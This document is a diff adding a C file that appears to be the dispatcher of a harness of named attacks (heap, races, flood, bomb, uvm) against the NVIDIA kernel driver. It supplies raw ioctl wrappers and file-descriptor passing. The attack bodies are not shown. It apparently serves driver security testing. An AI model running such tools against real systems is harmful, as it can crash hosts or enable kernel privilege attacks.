@@ -1,0 +1,130 @@
+/* attack NAME [ARGUMENT...] */
+#include "attack.h"
+
+#include <stddef.h>
+
+static const struct {
+    const char *name;
+    attack *function;
+} attacks[] = {
+    { "type", attack_type },           { "wrapped", attack_wrapped },           { "heap", attack_heap },
+    { "classes", attack_classes },     { "duplicate", attack_duplicate },       { "sizes", attack_sizes },
+    { "pointers", attack_pointers },   { "scheduling", attack_scheduling },     { "foreign", attack_foreign },
+    { "size-race", attack_size_race }, { "command-race", attack_command_race }, { "class-race", attack_class_race },
+    { "storm", attack_storm },         { "flood", attack_flood },               { "child", attack_child },
+    { "passed", attack_passed },       { "queued", attack_queued },             { "exec", attack_exec },
+    { "bomb", attack_bomb },           { "traced", attack_traced },             { "victim", attack_victim },
+    { "entries", attack_entries },     { "uring", attack_uring },               { "uvm", attack_uvm },
+    { "churn", attack_churn },
+};
+
+static uint32_t failure (void) { return 0x10000u + (uint32_t) errno; }
+
+uint32_t bed_alloc (struct bed *bed, uint32_t parent, uint32_t handle, uint32_t number, void *params)
+{
+    struct alloc call = { bed->client, parent, handle, number, (uintptr_t) params, 0, 0, 0, 0xffff, 0 };
+
+    return ioctl (bed->file, REQUEST (0x2b, sizeof (call)), &call) < 0 ? failure () : call.status;
+}
+
+struct memory memory_of (uint64_t size)
+{
+    return (struct memory) { .owner = 0x6e76, .attributes = 0x18000000, .size = size };
+}
+
+uint32_t bed_memory (struct bed *bed, uint32_t *handle, uint64_t size)
+{
+    struct memory params = memory_of (size);
+
+    *handle = bed->next++;
+    return bed_alloc (bed, bed->device, *handle, 0x40, &params);
+}
+
+uint32_t bed_control (const struct bed *bed, uint32_t object, uint32_t command, void *params, uint32_t size)
+{
+    struct control call = { bed->client, object, command, 0, (uintptr_t) params, size, 0xffff };
+
+    return ioctl (bed->file, REQUEST (0x2a, sizeof (call)), &call) < 0 ? failure () : call.status;
+}
+
+uint32_t bed_free (const struct bed *bed, uint32_t handle)
+{
+    struct release call = { bed->client, bed->device, handle, 0xffff };
+
+    return ioctl (bed->file, REQUEST (0x29, sizeof (call)), &call) < 0 ? failure () : call.status;
+}
+
+struct bed bed_open (void)
+{
+    struct bed bed = { .device = 0x5c000001, .subdevice = 0x5c000002, .next = 0x5d000000 };
+    struct alloc root = { .status = 0xffff };
+    uint32_t device[14] = { 0 }, zero = 0, status;
+
+    bed.file = open ("/dev/nvidiactl", O_RDWR);
+    bed.node = open ("/dev/nvidia0", O_RDWR);
+    if (bed.node >= 0)
+        ioctl (bed.node, REQUEST (0xc9, 4), &bed.file);
+    if (ioctl (bed.file, REQUEST (0x2b, sizeof (root)), &root) < 0 || root.status != 0) {
+        printf ("client=%x errno=%d\n", root.status, errno);
+        exit (3);
+    }
+    bed.client = root.object;
+    status = bed_alloc (&bed, bed.client, bed.device, 0x80, device);
+    if (status == 0)
+        status = bed_alloc (&bed, bed.device, bed.subdevice, 0x2080, &zero);
+    if (status != 0) {
+        printf ("device=%x\n", status);
+        exit (3);
+    }
+    return bed;
+}
+
+void say (const char *key, uint64_t value)
+{
+    printf ("%s=%llu\n", key, (unsigned long long) value);
+    fflush (stdout);
+}
+
+void hold (void)
+{
+    char line[16];
+
+    if (fgets (line, sizeof (line), stdin) == NULL)
+        exit (0);
+}
+
+int send_descriptor (int socket, int descriptor)
+{
+    char control[CMSG_SPACE (sizeof (int))] = { 0 }, byte = 'x';
+    struct iovec data = { &byte, 1 };
+    struct msghdr message = { .msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof (control) };
+    struct cmsghdr *header = CMSG_FIRSTHDR (&message);
+
+    header->cmsg_level = SOL_SOCKET;
+    header->cmsg_type = SCM_RIGHTS;
+    header->cmsg_len = CMSG_LEN (sizeof (int));
+    memcpy (CMSG_DATA (header), &descriptor, sizeof (int));
+    return sendmsg (socket, &message, 0) == 1 ? 0 : -1;
+}
+
+int receive_descriptor (int socket)
+{
+    char control[CMSG_SPACE (sizeof (int))] = { 0 }, byte;
+    struct iovec data = { &byte, 1 };
+    struct msghdr message = { .msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof (control) };
+    int descriptor = -1;
+
+    if (recvmsg (socket, &message, 0) == 1 && CMSG_FIRSTHDR (&message) != NULL)
+        memcpy (&descriptor, CMSG_DATA (CMSG_FIRSTHDR (&message)), sizeof (int));
+    return descriptor;
+}
+
+int main (int argc, char **argv)
+{
+    for (size_t i = 0; argc > 1 && i < sizeof (attacks) / sizeof (attacks[0]); i++)
+        if (strcmp (argv[1], attacks[i].name) == 0) {
+            attacks[i].function (argc - 2, argv + 2);
+            return 0;
+        }
+    return 2;
+}
